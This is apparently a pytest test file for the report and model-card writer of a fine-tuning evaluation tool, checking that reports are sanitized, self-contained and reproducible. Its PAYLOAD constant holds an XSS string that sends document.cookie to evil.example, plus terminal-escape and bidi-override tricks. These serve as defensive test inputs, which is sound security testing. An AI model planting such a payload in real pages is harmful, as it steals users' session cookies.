"""The written report of small synthetic runs."""

import json
import re
import shutil
import subprocess
import sys

import pytest
import yaml
from helpers.page import Page
from helpers.synthetic import measure_fully, pages, write

from opdcl.results import plots, report
from opdcl.results.report import pick_samples
from opdcl.results.scores import load_suites
from opdcl.results.summary import summarise
from opdcl.results.tables import MISSING
from opdcl.sanitize import harmless

PAYLOAD = '<script>fetch("https://evil.example/?" + document.cookie)</script><img src=x onerror=alert(1)>'
HOSTILE = (
    PAYLOAD
    + "\x1b[31mred\x1b[0m \u202egnp.exe\u202c \ud800 ```\n# not a heading | `tick` ![x](https://evil.example/x.png)"
)


def test_without_measurable_forgetting_no_file_prints_an_r(run):
    measure_fully(run, "tuned", "instructions", "retention", set(range(30)))
    files = pages(run)
    assert not [name for name, page in files.items() if "R = " in page]
    assert "a drop from base to tuned of 5.0 points" in files["report.md"]


def test_a_changed_base_and_a_foreign_adapter_get_notes(run):
    manifest = json.loads(run.manifest.read_text())
    manifest["base"]["fingerprint_after"] = "deadbeef"
    manifest["adapters"]["recovered"]["sha256"] = "retrained"
    write(run.manifest, manifest)
    html = pages(run)["report.html"]
    assert "The base weights changed during the run" in html
    assert "recovered was measured with another adapter" in html
    assert "CHANGED to deadbeef" in html
    assert "identical before and after" not in html


def test_html_shows_verdict_scores_plots_cost_and_how_to_reproduce_the_run(trained):
    page = Page(pages(trained)["report.html"])
    assert page.tags.count("svg") == 4
    for expected in (
        summarise(trained)["verdict"].replace(
            " %", "\N{NO-BREAK SPACE}%"
        ),  # no line starts with a percent sign
        "80.0 %",
        "inst_level_loose_acc",
        "7:31",
        "123,456",
        "3.0 GiB",
        "opdcl run quickstart",
        "torch 2.13.0",
        "feedbeef, identical before and after",
        "recovered-hash",
        "finetune 11, recover 12",
    ):
        assert expected in page.text
    svg_text = " ".join(page.text.split())
    assert all(
        word in svg_text
        for word in ("General prompts", "held-out", "Loss in nats", "Retention: instructions")
    )


def test_html_loads_nothing_from_outside_and_runs_no_script(trained):
    measure_fully(
        trained, "base", "instructions", "retention", set(range(32)), response=HOSTILE, prompt=HOSTILE
    )
    measure_fully(
        trained, "tuned", "instructions", "retention", set(range(8)), response=HOSTILE, prompt=HOSTILE
    )
    measure_fully(
        trained, "recovered", "instructions", "retention", set(range(28)), response=HOSTILE, prompt=HOSTILE
    )
    html = pages(trained)["report.html"]
    page = Page(html)
    assert not {"script", "link", "iframe", "object", "embed", "base", "form", "img", "a"} & set(page.tags)
    assert not [
        name for name, _ in page.attributes if name.startswith("on") or name in ("src", "action", "srcset")
    ]
    assert all(value.startswith("#") for name, value in page.attributes if "href" in name)
    assert not [value for name, value in page.attributes if "http:" in value or "https:" in value]
    assert "url(http" not in html
    assert "@import" not in html
    assert (
        "content",
        "default-src 'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; form-action 'none'",
    ) in (page.attributes)
    assert PAYLOAD in page.text  # shown, as text


def test_ids_in_the_page_are_unique_and_every_reference_finds_its_target(trained):
    html = pages(trained)["report.html"]
    ids = re.findall(r'\bid="([^"]+)"', html)
    assert len(ids) == len(set(ids))
    assert set(re.findall(r'(?:href="#|url\(#)([^")]+)', html)) <= set(ids)


def test_names_from_outside_cannot_break_a_page(run):
    config = json.loads(run.config.read_text())
    config["workflow"]["name"] = HOSTILE
    config["workflow"]["eval"]["control"] = [HOSTILE.replace("/", "")[:60]]
    write(run.config, config)
    for name, text in pages(run).items():
        assert "\x1b" not in text
        assert "\u202e" not in text
        # Metadata is not rendered; whatever stands in it, it must stay metadata.
        if name == "README.md":
            metadata, text = text.removeprefix("---\n").split("\n---\n", 1)
            assert PAYLOAD in yaml.safe_load(metadata)["model-index"][0]["name"]
        # In Markdown a backslash escapes a tag or an image, and code spans and quoted strings render neither.
        bare = re.sub(r'`[^`\n]*`|"[^"\n]*"', "", text) if name.endswith(".md") else text
        assert not re.search(r"(?<!\\)<(script|img)", bare), name
        assert not re.search(r"\[x\]\(", bare) or name == "report.html", name


def test_an_answer_cannot_close_its_markdown_block(run):
    for state, passes in (("base", 32), ("tuned", 8), ("recovered", 28)):
        measure_fully(
            run,
            state,
            "instructions",
            "retention",
            set(range(passes)),
            response="```\n# Recovered: 100 %\n````\n<b>",
        )
    text = pages(run)["report.md"]
    outside, fence = [], None
    for line in text.splitlines():
        if fence is None and (start := re.match(r"`{3,}", line)):
            fence = start.group()
        elif fence is not None and line.strip() == fence:
            fence = None
        elif fence is None:
            outside.append(line)
    assert "# Recovered: 100 %" in text
    assert "# Recovered: 100 %" not in outside
    assert fence is None


def test_terminal_escapes_and_bidi_overrides_become_visible():
    assert harmless("a\x1b[2Jb\u202ec\x00\x9b\ud800\u2028") == "a␛[2Jb⟨U+202E⟩c␀⟨U+009B⟩⟨U+D800⟩⟨U+2028⟩"
    assert harmless("line\r\n\ttab ä 漢 👩\u200d🔬") == "line\n\ttab ä 漢 👩\u200d🔬"


def test_samples_are_the_first_regained_prompts_and_the_first_lost_ones(run):
    came_back, lost = pick_samples(load_suites(run)[0])
    assert [s["number"] for s in came_back["samples"]] == [8, 9, 10, 11]
    assert (came_back["count"], came_back["of"]) == (20, 24)
    assert [s["number"] for s in lost["samples"]] == [28, 29, 30, 31]
    assert [a["mark"] for a in came_back["samples"][0]["answers"]] == ["pass", "fail", "pass"]
    kept, gone = pick_samples(load_suites(run)[1])
    assert [s["number"] for s in kept["samples"]] == [4, 5, 6, 7]
    assert [s["number"] for s in gone["samples"]] == [32, 33, 34, 35]


def test_long_answers_are_cut_and_say_so(run):
    measure_fully(run, "tuned", "instructions", "retention", set(range(8)), response="word " * 5000)
    html = pages(run)["report.html"]
    assert "more characters)" in html
    assert "word " * 500 not in html


def test_a_run_with_only_a_finetune_has_a_report(trained):
    shutil.rmtree(trained.evals)
    shutil.rmtree(trained.stage(2, "recover").path)
    files = pages(trained)
    assert "Not measured yet" in files["report.html"]
    assert Page(files["report.html"]).tags.count("svg") == 1
    assert "not run" in files["report.html"]


def test_an_empty_run_has_a_report(empty):
    assert all(text.strip() for text in pages(empty).values())


def test_the_model_card_has_front_matter_that_a_hub_can_read(run):
    card = pages(run)["README.md"]
    front = yaml.safe_load(card.split("---\n")[1])
    assert front["base_model"] == "HuggingFaceTB/SmolLM2-135M-Instruct"
    assert (front["library_name"], front["license"]) == ("peft", "apache-2.0")
    results = front["model-index"][0]["results"]
    assert {r["dataset"]["name"]: r["metrics"][0]["value"] for r in results} == {
        "instructions": 0.7,
        "handbook": 0.8,
    }
    assert "stages/02-recover/adapter" in card


def test_a_local_base_model_does_not_put_its_path_into_the_card(run):
    manifest = json.loads(run.manifest.read_text())
    manifest["base"] |= {"id": "/home/someone/secret/my-model", "license": None}
    write(run.manifest, manifest)
    front = yaml.safe_load(pages(run)["README.md"].split("---\n")[1])
    assert front["base_model"] == "my-model"
    assert "license" not in front


def test_writing_twice_gives_the_same_bytes_and_leaves_no_other_file(trained):
    first, before = pages(trained), sorted(p.name for p in trained.path.iterdir())
    assert pages(trained) == first
    assert sorted(p.name for p in trained.path.iterdir()) == before
    assert set(first) == {"report.md", "report.html", "README.md"}


def test_a_step_repeated_after_a_resume_counts_once(trained):
    with trained.stage(1, "finetune").metrics.open("a") as file:
        file.write(json.dumps({"step": 29, "loss": 0.5}) + "\n")
    assert "0.500 at the end" in pages(trained)["report.md"]


def test_a_plot_needs_two_points():
    assert plots.finetune_loss([{"step": 1, "loss": 2.0}]) is None
    assert plots.recovery_kl([], {"general": "base", "domain": "tuned"}) is None


def test_importing_the_report_loads_neither_a_model_library_nor_a_plotting_one():
    heavy = ["torch", "transformers", "trl", "peft", "datasets", "lm_eval", "matplotlib", "jinja2", "scipy"]
    code = f"import sys, opdcl.results.report; print([m for m in {heavy} if m in sys.modules])"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"


def test_a_given_summary_is_the_one_that_is_written(run):
    summary = summarise(run)
    report.write(run, summary | {"verdict": "Computed elsewhere."})
    assert "Computed elsewhere." in (run.path / "report.md").read_text()


@pytest.mark.parametrize(
    ("stream", "cells"), [("general", ["0.500", MISSING]), ("domain", [MISSING, "0.500"])]
)
def test_a_recovery_with_one_stream_has_a_report(run, stream, cells):
    rows = [{"step": s, "stream": stream, "loss": 1.0, "kl": 1.0} for s in range(1, 9)]
    check = {"step": 8, "validation": {f"{stream}_kl": 0.5, "best": True}}
    write(run.stage(2, "recover").metrics, [*rows, check])
    assert f"| 8 | {' | '.join(cells)} | kept |" in pages(run)["report.md"]
